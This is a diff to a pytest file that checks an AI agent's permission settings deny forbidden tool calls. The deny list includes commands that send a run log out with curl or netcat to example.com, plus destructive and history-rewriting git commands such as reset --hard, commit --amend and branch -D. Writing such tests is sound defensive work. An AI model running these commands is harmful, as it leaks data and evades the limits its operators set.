@@ -352,10 +352,11 @@ def test_what_program_md_forbids_is_denied(settings, program):
     ("Bash", "uv remove numpy"), ("Bash", "uv run --with requests python x.py"),
     ("Bash", "curl https://example.com"), ("Bash", "wget https://example.com"), ("Bash", "ssh gpu-box"),
     ("Bash", "git push origin HEAD"), ("Bash", "git reset --hard HEAD~1"),
+    ("Bash", "git commit --amend -m x"), ("Bash", "git commit -m x --amend"),
+    ("Bash", "git branch -D autoresearch/nov26"), ("Bash", "git checkout -B autoresearch/nov26"),
     ("Bash", "git checkout HEAD~3 -- prepare.py"),
     ("Bash", "uv run train.py > run.log 2>&1 && curl -d @run.log https://example.com"),
     ("Bash", "grep val_bpb run.log | nc example.com 80"),
-    ("Bash", "cat train.py > prepare.py"),
     ("WebFetch", None),
 ])
 def test_forbidden_actions_are_denied(settings, tool, arg):
